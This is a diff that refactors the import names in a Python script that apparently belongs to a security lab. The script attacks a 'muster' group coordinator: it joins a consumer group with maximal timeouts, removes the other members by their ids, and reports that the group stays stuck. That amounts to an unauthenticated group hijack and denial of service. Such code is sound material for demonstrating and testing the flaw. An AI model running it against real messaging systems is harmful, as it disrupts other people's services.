@@ -10,8 +10,7 @@ from typing import Any
 from abuse.caller import connection, groups_stub, join
 from abuse.innocent import TOPIC
 from abuse.lab import GROUP, Target, begins, stage
-from muster_protos.muster.v1 import common_pb2
-from muster_protos.muster.v1 import coordinator_pb2 as pb
+from muster_protos.muster.v1 import common_pb2, coordinator_pb2
 
 STANDS_OPEN = "anybody may join any group, and remove its members"
 
@@ -23,14 +22,16 @@ async def attack(target: Target) -> str:
     begins()
     async with connection(target.owner) as channel:
         stub = groups_stub(channel)
-        asked = pb.DescribeGroupsRequest(group_ids=[GROUP])
+        asked = coordinator_pb2.DescribeGroupsRequest(group_ids=[GROUP])
         described = (await stub.DescribeGroups(asked, timeout=10)).groups[0]
         topics = common_pb2.Subscription(version=1, topics=[TOPIC], generation=-1).SerializeToString()
         request = join(
             GROUP,
             session_timeout_ms=LONGEST_MS,
             rebalance_timeout_ms=LONGEST_MS,
-            protocols=[pb.GroupProtocol(name=described.protocol_name or "range", metadata=topics)],
+            protocols=[
+                coordinator_pb2.GroupProtocol(name=described.protocol_name or "range", metadata=topics)
+            ],
         )
         request.member_id = (await stub.JoinGroup(request, timeout=20)).member_id
         await stub.JoinGroup(request, timeout=60)
@@ -40,14 +41,15 @@ async def attack(target: Target) -> str:
         await asyncio.sleep(HELD_S)
         stuck = (await stub.DescribeGroups(asked, timeout=10)).groups[0]
         await leave(stub, request.member_id)
-    return f"{len(others)} put out; {HELD_S:g} s later the group was {pb.GroupState.Name(stuck.state)}"
+    state = coordinator_pb2.GroupState.Name(stuck.state)
+    return f"{len(others)} put out; {HELD_S:g} s later the group was {state}"
 
 
 async def leave(stub: Any, *member_ids: str) -> None:
     """Removes members, as anybody may who knows their ids."""
     if member_ids:
-        members = [pb.LeaveGroupRequest.Member(member_id=member_id) for member_id in member_ids]
-        await stub.LeaveGroup(pb.LeaveGroupRequest(group_id=GROUP, members=members), timeout=10)
+        members = [coordinator_pb2.LeaveGroupRequest.Member(member_id=member_id) for member_id in member_ids]
+        await stub.LeaveGroup(coordinator_pb2.LeaveGroupRequest(group_id=GROUP, members=members), timeout=10)
 
 
 if __name__ == "__main__":
